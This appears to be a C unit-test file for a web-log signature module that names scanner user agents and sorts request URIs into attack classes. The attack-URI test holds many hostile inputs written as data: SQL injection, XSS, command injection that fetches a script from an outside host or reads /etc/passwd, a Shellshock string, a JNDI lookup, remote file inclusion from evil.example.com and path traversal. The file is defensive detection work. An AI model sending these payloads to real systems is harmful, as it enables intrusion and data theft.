/*
** test_signatures.c — signature sets (ext/func/signatures/signatures.c): the
** built-in scanner and attack lists on real user agents and URIs (true
** positives and ordinary traffic), table-order priority, editing, the answer
** memo, user patterns matched in isolation (verbs, runaway backtracking:
** 'undetermined' for that value, counted on that row), interrupts, and
** allocation through the set's allocator.
**
** The user agents marked "real" are tools' default strings as they appear
** in logs; the expected names and classes are what a reader of the string
** would say, not what the code happened to answer.
*/
#include <check.h>

#include "func/signatures/signatures.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static ZlSigSet *scanners, *attacks;

static void setup(void){
  scanners = zl_sigset_new(0, NULL);
  attacks = zl_sigset_new(ZL_SIGSET_DECODE_URI, NULL);
  ck_assert_ptr_nonnull(scanners);
  ck_assert_ptr_nonnull(attacks);
  ck_assert_int_eq(zl_sigset_load(scanners, zl_scanner_signatures,
                                  zl_scanner_signature_count), ZL_SIG_OK);
  ck_assert_int_eq(zl_sigset_load(attacks, zl_attack_signatures,
                                  zl_attack_signature_count), ZL_SIG_OK);
}

static void teardown(void){
  zl_sigset_free(scanners);
  zl_sigset_free(attacks);
}

/* The name a set gives value[0..len), or NULL; fails the test on an error. */
static const char *classify_bytes(ZlSigSet *set, const char *value, size_t len){
  const ZlSignature *found = NULL;
  int rc = zl_sigset_classify(set, value, len, &found);
  ck_assert_msg(rc == ZL_SIG_OK || rc == ZL_SIG_MATCH, "classifying \"%s\" gave %d",
                value, rc);
  ck_assert_int_eq(rc == ZL_SIG_MATCH, found != NULL);
  /* the same answer without the memo and without the prefilter */
  const ZlSignature *plain = NULL;
  ck_assert_int_eq(zl_sigset_match(set, value, len, ZL_SIG_NO_MEMO | ZL_SIG_NO_PREFILTER,
                                   &plain), rc);
  ck_assert_ptr_eq(plain, found);
  return found ? found->name : NULL;
}

static const char *classify(ZlSigSet *set, const char *value){
  return classify_bytes(set, value, strlen(value));
}

typedef struct Case { const char *value, *expected; } Case;

static void check_cases(ZlSigSet *set, const Case *cases, size_t n){
  for(size_t i = 0; i < n; i++){
    const char *got = classify(set, cases[i].value);
    int ok = cases[i].expected ? got && strcmp(got, cases[i].expected) == 0
                               : got == NULL;
    ck_assert_msg(ok, "\"%s\": expected %s, got %s", cases[i].value,
                  cases[i].expected ? cases[i].expected : "NULL",
                  got ? got : "NULL");
  }
}

#define CHECK_CASES(set, cases) \
  check_cases(set, cases, sizeof(cases) / sizeof(cases[0]))

START_TEST(scanner_user_agents_are_named){
  static const Case cases[] = {
    /* real default strings */
    { "DirBuster-0.12 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "DirBuster" },
    { "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "DirBuster" },
    { "Mozilla/5.0 (compatible; Nmap Scripting Engine; http://nmap.org/book/nse.html)", "Nmap" },
    { "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Nmap" },
    { "Mozilla/5.0 SF/2.03b", "Skipfish" },
    { "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SF/2.03b)", "Skipfish" },
    { "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "Nikto" },
    { "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)", "Nikto" },
    { "sqlmap/1.4.7#stable (http://sqlmap.org)", "sqlmap" },
    { "sqlmap/1.0-dev (http://sqlmap.org)", "sqlmap" },
    { "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; w3af.org)", "w3af" },
    { "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)", "OpenVAS" },
    { "Mozilla/5.0 [en] (X11, U; OpenVAS 8.0.9)", "OpenVAS" },
    { "Arachni/v1.5.1", "Arachni" },
    { "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan" },
    { "Mozilla/5.0 zgrab/0.x", "zgrab" },
    { "gobuster/3.1.0", "gobuster" },
    { "Fuzz Faster U Fool v1.3.1-dev", "ffuf" },
    { "Wfuzz/3.1.0", "wfuzz" },
    { "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "WPScan" },
    { "WhatWeb/0.5.5", "WhatWeb" },
    { "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Nuclei" },
    { "commix/v3.7-stable (https://commixproject.com)", "commix" },
    { "feroxbuster/2.10.1", "feroxbuster" },
    { "ZmEu", "ZmEu" },
    { "Mozilla/4.0 (Hydra)", "Hydra" },
    { "Morfeus Fucking Scanner", "Morfeus" },
    { "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Censys" },
    { "Mozilla/5.0 Jorgee", "Jorgee" },
    /* the identifying token inside a string */
    { "Mozilla/5.0 (Windows NT 6.1) Acunetix-Product", "Acunetix" },
    { "Mozilla/5.0 (compatible; Nessus)", "Nessus" },
    { "Mozilla/5.0 (compatible; Netsparker)", "Netsparker" },
    { "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1) Havij", "Havij" },
    { "Mozilla/5.0 (compatible; Wapiti/2.3.0)", "Wapiti" },
    { "dirsearch", "dirsearch" },
    { "dirb/2.22", "dirb" },
  };
  CHECK_CASES(scanners, cases);
}
END_TEST

START_TEST(ordinary_clients_are_not_scanners){
  static const Case cases[] = {
    { "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", NULL },
    { "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", NULL },
    { "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15", NULL },
    { "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91", NULL },
    { "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1", NULL },
    { "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)", NULL },
    { "Mozilla/5.0 (Windows NT 6.1; rv:10.0.2) Gecko/20100101 Firefox/10.0.2", NULL },
    { "curl/7.88.1", NULL },
    { "Wget/1.21.3", NULL },
    { "python-requests/2.31.0", NULL },
    { "Go-http-client/1.1", NULL },
    { "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", NULL },
    { "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", NULL },
    { "", NULL },
    { "-", NULL },
  };
  CHECK_CASES(scanners, cases);
}
END_TEST

START_TEST(attack_uris_are_classified){
  static const Case cases[] = {
    { "/index.php?id=1' OR '1'='1", "sqli" },
    { "/index.php?id=1 UNION SELECT username,password FROM users--", "sqli" },
    { "/item.php?id=1+union+all+select+1,2,3", "sqli" },
    { "/item.php?id=-1%20UNION%2F%2A%2A%2FSELECT%201", "sqli" },
    { "/p?id=1 /*!50000union*/ /*!50000select*/ 1", "sqli" },
    { "/login.php?user=admin'--&pass=x", "sqli" },
    { "/p.php?id=1 AND 1=1", "sqli" },
    { "/p.php?id=1' AND SLEEP(5)-- -", "sqli" },
    { "/p.php?id=1;DROP TABLE users", "sqli" },
    { "/news.php?id=1 and (select 1 from information_schema.tables)", "sqli" },
    { "/x?id=1%2527%2520or%25201%253D1", "sqli" },      /* encoded twice */
    { "/p.php?id=char(72,101,108)", "sqli" },
    { "/p.php?id=1 order by 10-- -", "sqli" },
    { "/search.php?q=<script>alert(1)</script>", "xss" },
    { "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "xss" },
    { "/p?name=<img src=x onerror=alert(1)>", "xss" },
    { "/p?x=\"><svg/onload=alert(1)>", "xss" },
    { "/p?u=javascript:alert(1)", "xss" },
    { "/p?x=\" onmouseover=\"alert(1)", "xss" },
    { "/p?x=%253Cscript%253E", "xss" },
    { "/cgi-bin/ping.cgi?host=127.0.0.1;id", "cmd_injection" },
    { "/ping?host=8.8.8.8|cat /etc/passwd", "cmd_injection" },
    { "/x?cmd=;wget http://198.51.100.7/x.sh", "cmd_injection" },
    { "/x?a=`whoami`", "cmd_injection" },
    { "/x?a=$(uname -a)", "cmd_injection" },
    { "/x?ip=1.1.1.1\nid", "cmd_injection" },
    { "/x?ip=127.0.0.1&&whoami", "cmd_injection" },
    { "/cgi-bin/status?x=() { :;}; echo; /usr/bin/id", "cmd_injection" },
    { "/x?q=${jndi:ldap://198.51.100.7/a}", "cmd_injection" },
    { "/index.php?x=<?php system('id'); ?>", "cmd_injection" },
    { "/index.php?page=http://evil.example.com/shell.txt", "rfi" },
    { "/index.php?page=http://evil.example.com/shell.txt?", "rfi" },
    { "/index.php?inc=http://10.0.0.5/x.php?", "rfi" },
    { "/index.php?page=php://input", "rfi" },
    { "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==", "rfi" },
    { "/p.php?file=ftp://192.0.2.4/c99.php", "rfi" },
    { "/index.php?file=../../../../etc/passwd", "lfi" },
    { "/index.php?file=php://filter/resource=index.php", "lfi" },
    { "/index.php?page=/proc/self/environ", "lfi" },
    { "/index.php?lang=..\\..\\..\\windows\\win.ini", "lfi" },
    { "/download.php?f=WEB-INF/web.xml", "lfi" },
    { "/index.php?page=....//....//etc/passwd", "lfi" },
    { "/index.php?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd%00", "lfi" },
    { "/img?f=..%5c..%5cboot.ini", "lfi" },
    { "/static/../../../../var/www/secret.conf", "traversal" },
    { "/a/..%252f..%252fsecret", "traversal" },
    { "/..;/admin", "traversal" },
    { "/files/..\xc0\xaf..\xc0\xafsecret", "traversal" },
    { "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "traversal" },
  };
  CHECK_CASES(attacks, cases);
}
END_TEST

START_TEST(ordinary_uris_are_not_attacks){
  static const Case cases[] = {
    { "/", NULL },
    { "/index.html", NULL },
    { "/labor-union/select-committee", NULL },
    { "/news/2012/03/16/union-selects-new-leader", NULL },
    { "/blog/how-to-select-a-union-rep", NULL },
    { "/search?q=union+station+to+downtown", NULL },
    { "/api/users?select=name,email&from=2020-01-01", NULL },
    { "/api/items?select=id,name&order=id.desc", NULL },
    { "/docs/select-from-where.html", NULL },
    { "/shop?q=select+items+from+list", NULL },
    { "/search?q=rock+and+roll", NULL },
    { "/search?q=1+or+2", NULL },
    { "/search?q=%22hello%22+or+%22world%22", NULL },
    { "/search?q=it's+a+test", NULL },
    { "/search?q=where%27s+my+order", NULL },
    { "/forum/thread?title=Don't+drop+the+table", NULL },
    { "/cgi-bin/test.cgi?name=O'Neil&x=1", NULL },
    { "/products/item-42/details.php?id=7&cat=shoes&sort=price_asc", NULL },
    { "/wp-content/themes/x/style.css?ver=5.2.1", NULL },
    { "/login?next=/account/orders&lang=en", NULL },
    { "/redirect?url=https://www.example.com/path?x=1", NULL },
    { "/redirect?url=http://www.example.com/", NULL },
    { "/api?fields=name|id", NULL },
    { "/a;jsessionid=ABC123?x=1", NULL },
    { "/search?q=100%25+sure", NULL },
    { "/page?sort=date&order=desc", NULL },
    { "/math?q=1<2", NULL },
    { "/search?q=alert+system", NULL },
    { "/search?q=cats+%26+dogs", NULL },
    { "/search?q=tom+%26%26+jerry", NULL },
    { "/images/photo.jpg?w=100&h=200", NULL },
    { "/calendar?from=2020-01-01&to=2020-02-01", NULL },
    { "/man/system(3)", NULL },
    { "/dir0/", NULL },
    { "/sf42.bak", NULL },
  };
  CHECK_CASES(attacks, cases);
}
END_TEST

START_TEST(the_first_signature_in_table_order_wins){
  char err[256];
  /* ../ and /etc/passwd: lfi comes before traversal in the list. */
  ck_assert_str_eq(classify(attacks, "/x?f=../../etc/passwd"), "lfi");
  /* A rule placed before every built-in one (rowid 0) takes over, even
  ** though its match starts later in the value. */
  ZlSignatureSpec first = { "passwd", "passwd", NULL, NULL };
  ck_assert_int_eq(zl_sigset_insert(attacks, 0, &first, err, sizeof err),
                   ZL_SIG_OK);
  ck_assert_str_eq(classify(attacks, "/x?f=../../etc/passwd"), "passwd");
  ck_assert_str_eq(zl_sigset_at(attacks, 0)->name, "passwd");
  /* Appended last, a rule only answers what nothing else claims. */
  ZlSignatureSpec last = { "catch_all", "\\S", NULL, NULL };
  ck_assert_int_eq(zl_sigset_insert(scanners, zl_sigset_next_id(scanners),
                                    &last, err, sizeof err), ZL_SIG_OK);
  ck_assert_str_eq(classify(scanners, "Mozilla/5.0 SF/2.03b"), "Skipfish");
  ck_assert_str_eq(classify(scanners, "curl/8.0"), "catch_all");
}
END_TEST

START_TEST(edits_change_answers_at_once){
  char err[256];
  const char *ua = "curl/7.88.1";
  ck_assert_ptr_null(classify(scanners, ua));         /* cached as "none" */
  long long id = zl_sigset_next_id(scanners);
  ZlSignatureSpec curl = { "curl", "^curl/", "http_client", NULL };
  ck_assert_int_eq(zl_sigset_insert(scanners, id, &curl, err, sizeof err),
                   ZL_SIG_OK);
  ck_assert_str_eq(classify(scanners, ua), "curl");
  ZlSignatureSpec renamed = { "cURL", "^curl/", NULL, NULL };
  ck_assert_int_eq(zl_sigset_update(scanners, id, id, &renamed, err,
                                    sizeof err), ZL_SIG_OK);
  ck_assert_str_eq(classify(scanners, ua), "cURL");
  ck_assert_ptr_null(zl_sigset_at(scanners, zl_sigset_seek(scanners, id))->category);
  zl_sigset_delete(scanners, id);
  ck_assert_ptr_null(classify(scanners, ua));
  /* Deleting a built-in signature silences it. */
  ck_assert_str_eq(classify(scanners, "Mozilla/5.0 SF/2.03b"), "Skipfish");
  for(size_t i = 0; i < zl_sigset_count(scanners); i++){
    if(strcmp(zl_sigset_at(scanners, i)->name, "Skipfish") == 0){
      zl_sigset_delete(scanners, zl_sigset_at(scanners, i)->id);
      break;
    }
  }
  ck_assert_ptr_null(classify(scanners, "Mozilla/5.0 SF/2.03b"));
}
END_TEST

START_TEST(update_can_move_a_signature){
  char err[256];
  size_t n = zl_sigset_count(scanners);
  long long last = zl_sigset_at(scanners, n - 1)->id;
  ZlSignatureSpec spec = { "moved", "Jorgee", NULL, NULL };
  ck_assert_int_eq(zl_sigset_update(scanners, last, -5, &spec, err, sizeof err),
                   ZL_SIG_OK);
  ck_assert_uint_eq(zl_sigset_count(scanners), n);
  ck_assert(zl_sigset_at(scanners, 0)->id == -5);
  ck_assert_str_eq(zl_sigset_at(scanners, 0)->name, "moved");
  /* onto an id that is taken: refused, nothing changes */
  ck_assert_int_eq(zl_sigset_update(scanners, -5, 1, &spec, err, sizeof err),
                   ZL_SIG_CONSTRAINT);
  ck_assert_str_eq(err, "a signature with rowid 1 already exists");
  ck_assert(zl_sigset_at(scanners, 0)->id == -5);
}
END_TEST

START_TEST(bad_signatures_are_refused_and_change_nothing){
  char err[256];
  size_t n = zl_sigset_count(scanners);
  ZlSignatureSpec bad = { "bad", "a(", NULL, NULL };
  ck_assert_int_eq(zl_sigset_insert(scanners, 1000, &bad, err, sizeof err),
                   ZL_SIG_ERROR);
  ck_assert_str_eq(err, "bad pattern 'a(' at offset 2: missing closing parenthesis");
  /* byte mode: a pattern cannot turn UTF on */
  ZlSignatureSpec utf = { "u", "(*UTF)abc", NULL, NULL };
  ck_assert_int_eq(zl_sigset_insert(scanners, 1000, &utf, err, sizeof err),
                   ZL_SIG_ERROR);
  ck_assert(strstr(err, "UTF is disabled") != NULL);
  ZlSignatureSpec no_name = { NULL, "x", NULL, NULL };
  ck_assert_int_eq(zl_sigset_insert(scanners, 1000, &no_name, err, sizeof err),
                   ZL_SIG_CONSTRAINT);
  ZlSignatureSpec empty = { "e", "", NULL, NULL };
  ck_assert_int_eq(zl_sigset_insert(scanners, 1000, &empty, err, sizeof err),
                   ZL_SIG_CONSTRAINT);
  ZlSignatureSpec dup = { "d", "x", NULL, NULL };
  ck_assert_int_eq(zl_sigset_insert(scanners, 1, &dup, err, sizeof err),
                   ZL_SIG_CONSTRAINT);
  ck_assert_uint_eq(zl_sigset_count(scanners), n);
  ck_assert_str_eq(classify(scanners, "sqlmap/1.0"), "sqlmap");
}
END_TEST

START_TEST(signatures_keep_their_own_groups){
  char err[256];
  /* \1 means this pattern's own first group, whatever comes before it. */
  ZlSignatureSpec a = { "groups", "(x)(y)", NULL, NULL };
  ZlSignatureSpec b = { "repeat", "\\b(\\w)\\1\\1\\b", NULL, NULL };
  ck_assert_int_eq(zl_sigset_insert(scanners, 1000, &a, err, sizeof err),
                   ZL_SIG_OK);
  ck_assert_int_eq(zl_sigset_insert(scanners, 1001, &b, err, sizeof err),
                   ZL_SIG_OK);
  ck_assert_str_eq(classify(scanners, "zzz"), "repeat");
  ck_assert_ptr_null(classify(scanners, "zzy"));
  /* Its own (*MARK) does not confuse the answer. */
  ZlSignatureSpec marked = { "marked", "(*MARK:7)qq", NULL, NULL };
  ck_assert_int_eq(zl_sigset_insert(scanners, 1002, &marked, err, sizeof err),
                   ZL_SIG_OK);
  ck_assert_str_eq(classify(scanners, "qq"), "marked");
}
END_TEST

/* Each pattern is its own PCRE2 pattern now: what only works at the start
** of a pattern, or runs to its end, is fine. */
START_TEST(patterns_stand_alone){
  char err[256];
  static const ZlSignatureSpec specs[] = {
    { "comment", "(?x)abc # a trailing comment", NULL, NULL },
    { "quoted", "\\Qa+b", NULL, NULL },
    { "limited", "(*LIMIT_MATCH=1000)xyz", NULL, NULL },
    { "first", "(?<one>k1)", NULL, NULL },
    { "second", "(?<two>k2)", NULL, NULL },
  };
  for(size_t i = 0; i < sizeof specs / sizeof specs[0]; i++){
    ck_assert_int_eq(zl_sigset_insert(scanners, 1000 + (long long)i, &specs[i],
                                      err, sizeof err), ZL_SIG_OK);
  }
  ck_assert_str_eq(classify(scanners, "__ABC__"), "comment");
  ck_assert_str_eq(classify(scanners, "a+b"), "quoted");
  ck_assert_ptr_null(classify(scanners, "aab"));
  ck_assert_str_eq(classify(scanners, "xyz"), "limited");
  ck_assert_str_eq(classify(scanners, "k2"), "second");
}
END_TEST

/* "aaa...ab" (n a's) for (a+)+$. */
static char *runaway_value(size_t n){
  char *value = malloc(n + 2);
  memset(value, 'a', n);
  value[n] = 'b';
  value[n + 1] = 0;
  return value;
}

/* A pattern that backtracks without end cannot decide: the value is
** undetermined, counted on that signature's row, and nothing fails. */
START_TEST(runaway_user_patterns_leave_values_undetermined){
  char err[256] = "";
  ZlSignatureSpec evil = { "evil", "(a+)+$", NULL, NULL };
  ck_assert_int_eq(zl_sigset_insert(scanners, 1000, &evil, err, sizeof err),
                   ZL_SIG_OK);
  char *value = runaway_value(40);
  const ZlSignature *found = (const ZlSignature *)1;
  ck_assert_int_eq(zl_sigset_classify(scanners, value, 41, &found), ZL_SIG_UNDETERMINED);
  ck_assert_ptr_null(found);
  const ZlSignature *row = zl_sigset_at(scanners, zl_sigset_seek(scanners, 1000));
  ck_assert_uint_eq(row->undetermined, 1);
  /* from the memo: the same answer, not counted again */
  ck_assert_int_eq(zl_sigset_classify(scanners, value, 41, &found), ZL_SIG_UNDETERMINED);
  ck_assert_uint_eq(row->undetermined, 1);
  ZlSigStats stats;
  zl_sigset_stats(scanners, &stats);
  ck_assert_uint_eq(stats.undetermined, 2);
  /* a signature that matches, after it in the list, still answers */
  ZlSignatureSpec later = { "later", "aaab$", NULL, NULL };
  ck_assert_int_eq(zl_sigset_insert(scanners, 1001, &later, err, sizeof err),
                   ZL_SIG_OK);
  ck_assert_str_eq(classify_bytes(scanners, "Nikto", 5), "Nikto");
  ck_assert_int_eq(zl_sigset_classify(scanners, value, 41, &found), ZL_SIG_MATCH);
  ck_assert_str_eq(found->name, "later");
  /* an UPDATE starts the row's count again */
  ck_assert_int_eq(zl_sigset_update(scanners, 1000, 1000, &evil, err, sizeof err), ZL_SIG_OK);
  ck_assert_uint_eq(zl_sigset_at(scanners, zl_sigset_seek(scanners, 1000))->undetermined, 0);
  free(value);
}
END_TEST

/* A pattern that runs out of effort on a value its needs rule out is not run
** at all with the prefilter: the value is decided (nothing matches) where
** matching every signature alone leaves it undetermined. The only way the two
** differ. */
START_TEST(the_prefilter_decides_what_it_rules_out){
  char err[256];
  /* needs \xf7; PCRE2 only checks for its last literal, the a */
  ZlSignatureSpec never = { "never", "(a+)+$\\xf7a", NULL, NULL };
  ck_assert_int_eq(zl_sigset_insert(scanners, 0, &never, err, sizeof err), ZL_SIG_OK);
  char *value = runaway_value(40);
  const ZlSignature *found;
  ck_assert_int_eq(zl_sigset_match(scanners, value, 41, ZL_SIG_NO_MEMO, &found), ZL_SIG_OK);
  ck_assert_int_eq(zl_sigset_match(scanners, value, 41, ZL_SIG_NO_MEMO | ZL_SIG_NO_PREFILTER,
                                   &found), ZL_SIG_UNDETERMINED);
  free(value);
}
END_TEST

/* Issue 12: a verb in one user signature at rowid 0 made every later one
** silent. Each pattern is matched alone, so it affects its own row only. */
START_TEST(verbs_affect_only_their_own_row){
  static const char *verbs[] = { "(*COMMIT)zzz", "(*SKIP)(*F)", "(*PRUNE)(*FAIL)",
                                 "(*ACCEPT)??x", "a(*THEN)b|(*COMMIT)(*F)" };
  char err[256];
  for(size_t i = 0; i < sizeof verbs / sizeof verbs[0]; i++){
    ZlSignatureSpec spec = { "verb", verbs[i], NULL, NULL };
    ck_assert_int_eq(zl_sigset_insert(scanners, 0, &spec, err, sizeof err), ZL_SIG_OK);
    const char *got = classify(scanners, "sqlmap/1.4.7#stable (http://sqlmap.org)");
    ck_assert_msg(got && (strcmp(got, "sqlmap") == 0 || strcmp(got, "verb") == 0),
                  "%s: got %s", verbs[i], got ? got : "NULL");
    if(i != 3) ck_assert_str_eq(got, "sqlmap");   /* (*ACCEPT)?? matches "" first */
    zl_sigset_delete(scanners, 0);
  }
  ZlSignatureSpec commit = { "commit", "(*COMMIT)zzz", NULL, NULL };
  ck_assert_int_eq(zl_sigset_insert(attacks, 0, &commit, err, sizeof err), ZL_SIG_OK);
  ck_assert_str_eq(classify(attacks, "/index.php?id=1' OR '1'='1"), "sqli");
  ck_assert_str_eq(classify(attacks, "zzz"), "commit");
}
END_TEST

static int stop_calls;
static int stop_now(void *arg){
  (void)arg;
  stop_calls++;
  return 1;
}

/* Long values ask the stop callback between patterns; short ones finish
** without asking (microseconds). */
START_TEST(long_values_stop_when_asked){
  ZlRegexStop stop = { stop_now, NULL };
  zl_sigset_set_stop(attacks, &stop);
  size_t n = 1 << 20;
  char *value = malloc(n);
  for(size_t i = 0; i < n; i++) value[i] = "union/**/"[i % 9];
  const ZlSignature *found;
  stop_calls = 0;
  ck_assert_int_eq(zl_sigset_classify(attacks, value, n, &found), ZL_SIG_INTERRUPTED);
  ck_assert_int_eq(stop_calls, 1);
  stop_calls = 0;
  ck_assert_int_eq(zl_sigset_classify(attacks, value, 100, &found), ZL_SIG_OK);
  ck_assert_int_eq(stop_calls, 0);
  free(value);
}
END_TEST

START_TEST(long_and_repeated_values){
  /* Longer than the cache keeps: still matched, every time. */
  size_t n = 5000;
  char *ua = malloc(n + 16);
  memset(ua, 'x', n);
  memcpy(ua + n, " sqlmap/1.0", 12);
  for(int i = 0; i < 3; i++){
    ck_assert_str_eq(classify_bytes(scanners, ua, n + 11), "sqlmap");
  }
  free(ua);
  /* Many distinct values through the cache: answers stay right. */
  char buf[64];
  for(int i = 0; i < 20000; i++){
    int len = snprintf(buf, sizeof buf, i % 2 ? "gobuster/%d" : "curl/%d", i);
    const char *got = classify_bytes(scanners, buf, (size_t)len);
    if(i % 2) ck_assert_str_eq(got, "gobuster");
    else ck_assert_ptr_null(got);
  }
  /* Bytes after a NUL count. */
  ck_assert_str_eq(classify_bytes(scanners, "x\0Nikto", 7), "Nikto");
  ck_assert_ptr_null(classify_bytes(scanners, "x\0Nikto", 1));
}
END_TEST

START_TEST(an_empty_set_matches_nothing){
  ZlSigSet *set = zl_sigset_new(0, NULL);
  ck_assert_ptr_null(classify(set, "anything"));
  ck_assert_int_eq(zl_sigset_next_id(set), 1);
  zl_sigset_free(set);
}
END_TEST

Suite *unit_suite(void){
  Suite *s = suite_create("signatures");
  TCase *tc = tcase_create("signatures");
  tcase_add_checked_fixture(tc, setup, teardown);
  tcase_set_timeout(tc, 30);
  tcase_add_test(tc, scanner_user_agents_are_named);
  tcase_add_test(tc, ordinary_clients_are_not_scanners);
  tcase_add_test(tc, attack_uris_are_classified);
  tcase_add_test(tc, ordinary_uris_are_not_attacks);
  tcase_add_test(tc, the_first_signature_in_table_order_wins);
  tcase_add_test(tc, edits_change_answers_at_once);
  tcase_add_test(tc, update_can_move_a_signature);
  tcase_add_test(tc, bad_signatures_are_refused_and_change_nothing);
  tcase_add_test(tc, signatures_keep_their_own_groups);
  tcase_add_test(tc, patterns_stand_alone);
  tcase_add_test(tc, runaway_user_patterns_leave_values_undetermined);
  tcase_add_test(tc, verbs_affect_only_their_own_row);
  tcase_add_test(tc, the_prefilter_decides_what_it_rules_out);
  tcase_add_test(tc, long_values_stop_when_asked);
  tcase_add_test(tc, long_and_repeated_values);
  tcase_add_test(tc, an_empty_set_matches_nothing);
  suite_add_tcase(s, tc);
  return s;
}

#include "unit.h"
